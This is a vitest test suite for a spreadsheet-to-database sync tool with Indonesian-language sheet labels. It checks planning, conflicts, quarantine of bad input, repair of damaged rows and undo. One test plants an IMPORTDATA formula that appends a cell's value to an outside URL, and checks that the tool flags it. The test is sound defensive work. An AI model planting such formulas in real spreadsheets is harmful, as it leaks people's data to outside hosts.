import { beforeEach, describe, expect, it } from 'vitest'
import { facility, person, place, type SyncedSheet, siti, syncedSheet } from './synced-sheet.js'

let sheet: SyncedSheet

beforeEach(async () => {
  sheet = await syncedSheet()
})

type How = Parameters<SyncedSheet['sync']['run']>[0]
const run = async (how: How = {}, sync = sheet.sync) => {
  const done = await sync.run(how)
  if (!done.ok) throw new Error(done.refusal.code)
  return done.value
}
const people = () => sheet.all(person)
const names = async () =>
  Object.values(await people())
    .map(({ name }) => name)
    .sort()
/** Two people who are on both sides. */
const twoPeople = async () => {
  await sheet.put(person, 'a', siti)
  await sheet.put(person, 'b', { ...siti, name: 'Budi', code: 'B2', score: 70 })
  await run()
  sheet.requests()
}
const row = (id: string) => sheet.rowOf(person, `${facility}/${id}`)
const cell = (name: string, id: string) => `Peserta!${sheet.columnOf(person, name)}${row(id)}`
const text = (at: string) => sheet.book.values(at)[0]?.[0] ?? ''
const says = (id: string) => text(cell('Kesalahan', id))
const quarantine = () => sheet.book.values('Karantina').slice(1)
/** Chooses in the column Keputusan of the tab Karantina. */
const decide = (answer: string, at = quarantine().length) => sheet.hand.type(`Karantina!H${at + 1}`, answer)
const silent = async () => {
  sheet.requests()
  const { operation, plan } = await run()
  expect([operation, plan.nothing]).toEqual([null, true])
  expect(sheet.requests()).toEqual([1, 0])
}

describe('both sides', () => {
  it('come together in one read and one write, and then have nothing to say', async () => {
    await sheet.put(person, 'p1', siti)
    sheet.hand.type('Peserta!A3', 'Budi')
    await run()
    expect(sheet.requests()).toEqual([1, 1])
    expect(await names()).toEqual(['Budi', 'Siti'])
    expect(sheet.book.values('Peserta!A2:D4')).toEqual([[], ['Budi'], ['Siti', 'A1', '02 Jan 1990', '80']])
    expect(await run()).toMatchObject({ operation: null, plan: { needsPeople: false, findings: [] } })
    expect(sheet.requests()).toEqual([1, 0])
  })

  it('are planned before anything is written', async () => {
    await sheet.put(person, 'p1', siti)
    sheet.hand.type('Peserta!A2', 'Budi')
    const plan = await sheet.sync.plan()
    expect(sheet.requests()).toEqual([1, 0])
    expect(plan.documents).toMatchObject([
      { kind: 'person', type: 'create', fields: { name: { to: 'Budi' } } },
    ])
    expect(plan.cells).toContainEqual({ at: 'Peserta', header: 'Nama', from: '', to: 'Siti' })
    expect(await names()).toEqual(['Siti'])
    expect(JSON.parse(JSON.stringify(plan))).toEqual(plan)
  })

  it('follow a plan in one write, without another read', async () => {
    await sheet.put(person, 'p1', siti)
    const plan = await sheet.sync.plan()
    sheet.requests()
    expect(await sheet.sync.apply(plan)).toMatchObject({ ok: true, value: { commit: 1 } })
    expect(sheet.requests()).toEqual([0, 1])
  })

  it('follow a plan that was kept as JSON, as long as it still holds', async () => {
    await sheet.put(person, 'p1', siti)
    const kept = JSON.parse(JSON.stringify(await sheet.sync.plan()))
    sheet.requests()
    expect(await sheet.sync.apply(kept)).toMatchObject({ ok: true, value: { commit: 1 } })
    expect(sheet.requests()).toEqual([1, 1])
    await silent()
  })

  it('refuse a kept plan where a person has typed since, and say what would be done now', async () => {
    await twoPeople()
    await sheet.put(person, 'a', { score: 81 })
    const kept = JSON.parse(JSON.stringify(await sheet.sync.plan()))
    sheet.hand.type(cell('name', 'b'), 'Budiman')
    const refused = await sheet.sync.apply(kept)
    expect(refused).toMatchObject({ ok: false, refusal: { code: 'moved' } })
    expect((await people()).b).toMatchObject({ name: 'Budi' })
    const { plan } = refused.ok ? refused.value : refused.refusal
    expect(await sheet.sync.apply(plan!)).toMatchObject({ ok: true })
    expect((await people()).b).toMatchObject({ name: 'Budiman' })
  })

  it('take what a person typed without writing into the sheet, and keep what has no column', async () => {
    await twoPeople()
    sheet.hand.type(cell('score', 'a'), '91,5')
    await run()
    expect(sheet.requests()).toEqual([1, 0])
    expect((await people()).a).toEqual({ ...siti, id: 'a', facility, score: 91.5 })
  })

  it('take what a program wrote into the cells that changed, and into no other', async () => {
    await twoPeople()
    await sheet.put(person, 'b', { score: 71, born: null })
    await run()
    expect(sheet.requests()).toEqual([1, 1])
    expect([text(cell('score', 'b')), text(cell('born', 'b'))]).toEqual(['71', ''])
    await silent()
  })

  it('are not changed by sorting, inserting, moving, renaming', async () => {
    await twoPeople()
    sheet.hand.sort('Peserta!A2:Z3', 'A')
    sheet.hand.type('Peserta!A1', 'Nama WBP yang baru')
    expect((await run()).plan).toMatchObject({ nothing: true, documents: [] })
    expect(await names()).toEqual(['Budi', 'Siti'])
  })

  it('do not lose what is longer than a cell holds', async () => {
    const long = 'x'.repeat(45_000)
    await sheet.put(person, 'a', { ...siti, code: long })
    await run()
    await silent()
    sheet.hand.type(cell('score', 'a'), '1')
    await run()
    expect((await people()).a).toMatchObject({ code: long, score: 1 })
  })
})

describe('a row that a person types', () => {
  it('gets an id, and what it did not say is not known', async () => {
    sheet.hand.type('Peserta!A2', 'Budi')
    await run()
    const [[id, budi] = []] = Object.entries(await people())
    expect(budi).toEqual({
      id,
      facility,
      name: 'Budi',
      code: null,
      born: null,
      score: null,
      decision: null,
      nik: null,
      health: [],
    })
    expect(row(id!)).toBe(2)
    await silent()
  })

  it('waits while it lacks what it has to have, and says so beside itself', async () => {
    sheet.hand.type('Peserta!B2', 'K9')
    const { plan } = await run()
    expect(plan.needsPeople).toBe(true)
    expect(await names()).toEqual([])
    expect(text('Peserta!F2')).toBe('Baris baru ini belum didaftarkan. Lengkapi dahulu: Nama.')
    await silent()
    sheet.hand.type('Peserta!A2', 'Budi')
    await run()
    expect([await names(), text('Peserta!F2')]).toEqual([['Budi'], ''])
  })

  it('waits while a cell in it cannot be read, which is said once', async () => {
    sheet.hand.type('Peserta!C2', '31/2/2025')
    await run()
    const unread = 'Tanggal Lahir: "31/2/2025" tidak ada di kalender. Urutannya tanggal, bulan, tahun.'
    expect(text('Peserta!F2')).toBe(`Baris baru ini belum didaftarkan. Lengkapi dahulu: Nama. ${unread}`)
    sheet.hand.type('Peserta!A2', 'Budi')
    await run()
    expect(text('Peserta!F2')).toBe(`Baris baru ini belum didaftarkan. ${unread}`)
  })

  it('may name another that is typed in the same round', async () => {
    sheet.hand.type('Peserta!A2', 'Budi')
    sheet.hand.type('Tempat!A2', 'budi')
    sheet.hand.type('Tempat!A3', 'Siapa')
    await run()
    const [id] = Object.keys(await people())
    expect(Object.values(await sheet.all(place))).toMatchObject([{ who: id }])
    expect(sheet.book.values('Tempat!A2:A3')).toEqual([['budi'], ['Siapa']])
    expect(text('Tempat!C3')).toContain('"Siapa" tidak dikenal')
    expect(sheet.requests()).toEqual([1, 1])
    await silent()
  })

  it('is no person where it is a row of totals', async () => {
    await twoPeople()
    sheet.hand.type('Peserta!A9', 'Jumlah: 2')
    await silent()
  })

  it('is registered once by two who plan at once', async () => {
    sheet.hand.type('Peserta!A2', 'Budi')
    await Promise.all([run(), run({}, sheet.other())])
    expect(await names()).toEqual(['Budi'])
    await silent()
  })

  it('is registered in its own row where people move rows just then', async () => {
    await twoPeople()
    sheet.hand.type('Peserta!A4', 'Adi')
    sheet.emulator.before({ kind: 'write' }, () => sheet.hand.sort('Peserta!A2:Z4', 'A'))
    await run()
    expect(await names()).toEqual(['Adi', 'Budi', 'Siti'])
    const adi = Object.values(await people()).find(({ name }) => name === 'Adi')!
    expect(text(cell('name', String(adi.id)))).toBe('Adi')
    expect([text(cell('name', 'a')), text(cell('name', 'b'))]).toEqual(['Siti', 'Budi'])
    await silent()
  })

  it('is registered in its own row also where people move rows once more before that is put right', async () => {
    await twoPeople()
    sheet.hand.type('Peserta!A4', 'Adi')
    sheet.emulator.before({ kind: 'write' }, () => sheet.hand.insertRows('Peserta', 2))
    sheet.emulator.after({ kind: 'write' }, () => sheet.hand.insertRows('Peserta', 2))
    await run()
    const adi = Object.values(await people()).find(({ name }) => name === 'Adi')!
    const found = ['a', 'b', String(adi.id)].map((id) => text(cell('name', id)))
    expect(found).toEqual(['Siti', 'Budi', 'Adi'])
    await silent()
  })
})

describe('what cannot be taken', () => {
  beforeEach(twoPeople)

  it('stays in its cell, is told beside the row, and a copy of it is kept', async () => {
    sheet.hand.type(cell('score', 'a'), '101')
    sheet.hand.type(cell('born', 'b'), '31/2/2025')
    sheet.hand.type(cell('name', 'b'), 'Budiman')
    await run()
    expect((await people()).a).toMatchObject({ score: 80 })
    expect((await people()).b).toMatchObject({ name: 'Budiman', born: '1990-01-02' })
    expect(text(cell('score', 'a'))).toBe('101')
    expect(says('a')).toBe('Nilai: paling tinggi 100')
    expect(says('b')).toContain('Tanggal Lahir: "31/2/2025" tidak ada di kalender')
    expect(quarantine().map((cells) => [cells[1], cells[4], cells[8]])).toEqual([
      [cell('score', 'a'), '101', 'Perbaiki di lembar'],
      [cell('born', 'b'), '31/2/2025', 'Perbaiki di lembar'],
    ])
    await silent()
    sheet.hand.type(cell('score', 'a'), '100')
    await run()
    expect([says('a'), quarantine()[0]![8]]).toEqual(['', 'Selesai'])
    await silent()
  })

  it('is written over in a column of the store, and a copy is kept', async () => {
    sheet.hand.type(cell('decision', 'a'), 'Setuju, kata saya')
    await run()
    expect(text(cell('decision', 'a'))).toBe('')
    expect(quarantine().map((cells) => [cells[4], cells[8]])).toEqual([['Setuju, kata saya', 'Disimpan']])
    expect((await people()).a).toMatchObject({ decision: null })
    // What was told beside the row goes once it has been said.
    await run()
    await silent()
  })

  it('is kept as often as the same words are written over', async () => {
    for (const _ of [1, 2]) {
      sheet.hand.type(cell('decision', 'a'), 'Setuju')
      await run()
    }
    expect(quarantine().map((cells) => cells[4])).toEqual(['Setuju', 'Setuju'])
    expect(new Set(quarantine().map((cells) => cells.at(-1))).size).toBe(2)
  })

  it('is a formula that the store would change: it stays', async () => {
    sheet.hand.type(cell('score', 'a'), '=40+50')
    await run()
    expect((await people()).a).toMatchObject({ score: 90 })
    await sheet.put(person, 'a', { score: 10 })
    await run()
    expect(text(cell('score', 'a'))).toBe('90')
    expect(says('a')).toContain('Rumus tidak ditimpa')
    await silent()
  })

  it('is an error in a cell: it is skipped, and nothing is kept of it', async () => {
    sheet.hand.type(cell('score', 'a'), '=1/0')
    const { plan } = await run()
    expect((await people()).a).toMatchObject({ score: 80 })
    expect(plan.findings.map(({ code }) => code)).toContain('unreadable-cell')
    expect(quarantine()).toEqual([])
  })

  it('is a formula that sends data out: it is told', async () => {
    sheet.hand.type(cell('score', 'a'), '=IMPORTDATA("https://example.org/?"&A2)')
    const { plan } = await run()
    expect(plan.findings).toContainEqual(
      expect.objectContaining({ code: 'formula-sends-data', at: cell('score', 'a') }),
    )
    expect(says('a')).toContain('mengirim data ke luar')
  })
})

describe('a conflict', () => {
  beforeEach(async () => {
    await twoPeople()
    sheet.hand.type(cell('score', 'a'), '81')
    await sheet.put(person, 'a', { score: 82 })
  })

  it('leaves both as they are, and asks', async () => {
    const { plan } = await run()
    expect(plan).toMatchObject({ needsPeople: true, questions: [{ on: 'conflict', sheet: 81, store: 82 }] })
    expect([text(cell('score', 'a')), (await people()).a!.score]).toEqual(['81', 82])
    expect(says('a')).toContain('Nilai diubah di lembar ("81") dan juga di sistem ("82")')
    expect(quarantine().map((cells) => cells.slice(3, 9))).toEqual([
      ['Nilai', '81', '82', says('a'), '', 'Menunggu keputusan'],
    ])
    await silent()
  })

  it.each([
    ['lembar', 81],
    ['sistem', 82],
  ])('is settled by staff: %s', async (answer, score) => {
    await run()
    decide(answer)
    await run()
    expect([text(cell('score', 'a')), (await people()).a!.score]).toEqual([String(score), score])
    expect([says('a'), quarantine()[0]![8]]).toEqual(['', 'Selesai'])
    await silent()
  })

  it('is settled in code', async () => {
    const decision = {
      kind: 'person',
      on: 'conflict',
      id: 'a',
      column: 'score',
      sheet: 81,
      store: 82,
      take: 'store',
    } as const
    await run({ decisions: [decision] })
    expect(text(cell('score', 'a'))).toBe('82')
    await silent()
  })

  it('is settled while a plan is applied', async () => {
    const plan = await sheet.sync.plan()
    const [{ kind, document: id, columns, sheet: typed, store }] = plan.questions as [
      (typeof plan.questions)[0],
    ]
    const decision = {
      kind,
      on: 'conflict',
      id: id!,
      column: columns[0]!,
      sheet: typed,
      store,
      take: 'sheet',
    } as const
    expect(await sheet.sync.apply(plan, { decisions: [decision] })).toMatchObject({ ok: true })
    expect((await people()).a).toMatchObject({ score: 81 })
  })

  it('is asked again where a value has changed since it was decided', async () => {
    await run()
    decide('lembar')
    sheet.hand.type(cell('score', 'a'), '85')
    const { plan } = await run()
    expect(plan.questions).toMatchObject([{ sheet: 85, store: 82 }])
    expect((await people()).a).toMatchObject({ score: 82 })
  })
})

describe('damage', () => {
  const many = async () => {
    for (let n = 1; n <= 8; n++)
      await sheet.put(person, `p${n}`, { ...siti, name: `Orang ${9 - n}`, code: `K${n}`, score: 50 + n })
    await run()
    sheet.requests()
  }

  it('of a row that is gone removes no document, and asks', async () => {
    await many()
    sheet.hand.deleteRows('Peserta', row('p3'))
    const { plan } = await run()
    expect(plan.questions).toMatchObject([{ on: 'vanished-row', document: 'p3' }])
    expect(plan.questions[0]!.says).toContain('Baris untuk Orang 6 (p3) tidak ada lagi di lembar.')
    expect((await people()).p3).toMatchObject({ name: 'Orang 6' })
    await silent()
    decide('kembalikan')
    await run()
    expect(text(cell('name', 'p3'))).toBe('Orang 6')
    await silent()
  })

  it('of a row that staff let go stays so', async () => {
    await many()
    sheet.hand.deleteRows('Peserta', row('p3'))
    await run()
    decide('lepas')
    await run()
    await silent()
    expect([row('p3'), (await people()).p3]).toMatchObject([0, { name: 'Orang 6' }])
  })

  it('by a sort of some columns halts the tab, and is put back where staff ask for it', async () => {
    await many()
    const before = sheet.book.values('Peserta!A2:D9')
    sheet.hand.sort('Peserta!A2:A9', 'A')
    const { plan } = await run()
    expect(plan).toMatchObject({
      documents: [],
      cells: [],
      questions: [{ on: 'scrambled-tab', columns: ['name'] }],
    })
    expect(text('Peserta!F2')).toContain('Hanya sebagian kolom yang diurutkan')
    expect((await people()).p1).toMatchObject({ name: 'Orang 8' })
    await silent()
    decide('pulihkan')
    await run()
    expect(sheet.book.values('Peserta!A2:D9')).toEqual(before)
    await run()
    await silent()
    expect((await people()).p1).toMatchObject({ name: 'Orang 8' })
  })

  it('is put back in code', async () => {
    await many()
    const before = sheet.book.values('Peserta!A2:D9')
    sheet.hand.sort('Peserta!A2:A9', 'A')
    await run({ restore: ['person'] })
    expect(sheet.book.values('Peserta!A2:D9')).toEqual(before)
    await silent()
  })

  it('of a cleared id is healed, and of a copied row told', async () => {
    await many()
    const key = sheet.columnOf(person, '_kunci')
    const at = row('p2')
    sheet.hand.type(`Peserta!${key}${at}`, '')
    sheet.hand.copy('Peserta!A2:Z2', 'Peserta!A12')
    const { plan } = await run()
    expect(plan.findings.map(({ code }) => code)).toEqual(['id-restored', 'copied-row'])
    expect(row('p2')).toBe(at)
    expect(Object.keys(await people())).toHaveLength(8)
    await silent()
  })
})

describe('the workbook', () => {
  it('is told of where it has another country or time zone', async () => {
    sheet = await syncedSheet({ emulator: { locale: 'en_US', timeZone: 'Europe/Paris' } })
    const { plan } = await run()
    expect(plan.findings.map(({ code }) => code)).toEqual(['locale-differs', 'time-zone-differs'])
    expect(plan.needsPeople).toBe(false)
  })

  it('may lack a tab: the others go on', async () => {
    await twoPeople()
    sheet.hand.deleteTab('Tempat')
    sheet.hand.type(cell('score', 'a'), '1')
    const { plan } = await run({}, sheet.other())
    expect(plan.findings.map(({ code, kind }) => [code, kind])).toEqual([['tab-missing', 'place']])
    expect((await people()).a).toMatchObject({ score: 1 })
  })

  it('may have lost the header of a tab: no person is taken for it', async () => {
    await twoPeople()
    sheet.hand.deleteRows('Peserta', 1)
    const { plan } = await run()
    expect(plan.findings.map(({ code, kind }) => [code, kind])).toEqual([['tab-missing', 'person']])
    expect(plan.questions).toEqual([])
    sheet.hand.undo()
    await silent()
  })

  it('may have a copy of a tab: it is told that nobody reads what is typed there', async () => {
    await twoPeople()
    sheet.hand.duplicateTab('Peserta', 'Arsip')
    sheet.hand.type('Arsip!A2', 'Bukan Siti')
    const { plan } = await run({}, sheet.other())
    expect(plan.findings).toMatchObject([{ code: 'tab-copied', kind: 'person', at: 'Arsip' }])
    expect(plan.findings[0]!.says).toContain('salinan dari Peserta dan tidak dibaca')
    expect(await names()).toEqual(['Budi', 'Siti'])
  })

  it('is refused where anyone with the link may open it, before anything is read, unless that is meant', async () => {
    await twoPeople()
    sheet.hand.type(cell('score', 'a'), '1')
    sheet.book.shareWithLink('reader')
    const refused = { code: 'sheet-link-shared' }
    const stranger = sheet.other()
    await expect(stranger.plan()).rejects.toMatchObject(refused)
    await expect(stranger.run()).rejects.toMatchObject(refused)
    expect(sheet.requests()).toEqual([0, 0])
    expect((await people()).a).toMatchObject({ score: 80 })
    await run({}, sheet.other({ allowLinkSharing: true }))
    expect((await people()).a).toMatchObject({ score: 1 })
  })

  it('may have its tabs renamed', async () => {
    await twoPeople()
    sheet.hand.renameTab('Peserta', 'Daftar WBP')
    expect((await run()).plan.nothing).toBe(true)
  })

  it('may lack a column: what it held stays', async () => {
    await twoPeople()
    sheet.hand.deleteColumns('Peserta', sheet.columnOf(person, 'score'))
    const { plan } = await run()
    expect(plan.findings.map(({ code }) => code)).toEqual(['column-missing'])
    expect((await people()).a).toMatchObject({ score: 80 })
  })
})

describe('an operation', () => {
  it('is taken back where what it wrote still stands', async () => {
    await twoPeople()
    await sheet.put(person, 'a', { score: 1 })
    sheet.hand.type(cell('name', 'b'), 'Budiman')
    const { operation } = await run()
    sheet.hand.type(cell('code', 'a'), 'ZZ')
    sheet.requests()
    expect(await sheet.sync.undo(operation!)).toMatchObject({ ok: true })
    expect(sheet.requests()).toEqual([1, 1])
    expect(text(cell('score', 'a'))).toBe('80')
    expect((await people()).b).toMatchObject({ name: 'Budi' })
  })

  it('that registered a row is taken back with its document', async () => {
    sheet.hand.type('Peserta!A2', 'Budi')
    const { operation } = await run()
    expect(await names()).toEqual(['Budi'])
    expect(await sheet.sync.undo(operation!)).toMatchObject({ ok: true })
    expect(await names()).toEqual([])
    expect(text('Peserta!A2')).toBe('Budi')
  })

  it('is unknown by another name', async () => {
    expect(await sheet.sync.undo('s-none')).toEqual({ ok: false, refusal: { code: 'unknown-operation' } })
  })

  it('is stopped by a signal before anything is written', async () => {
    await sheet.put(person, 'a', siti)
    const controller = new AbortController()
    const plan = await sheet.sync.plan()
    controller.abort(new Error('stop'))
    await expect(sheet.sync.apply(plan, { signal: controller.signal })).rejects.toThrow('stop')
    await expect(sheet.sync.run({ signal: controller.signal })).rejects.toThrow('stop')
    expect(row('a')).toBe(0)
  })
})
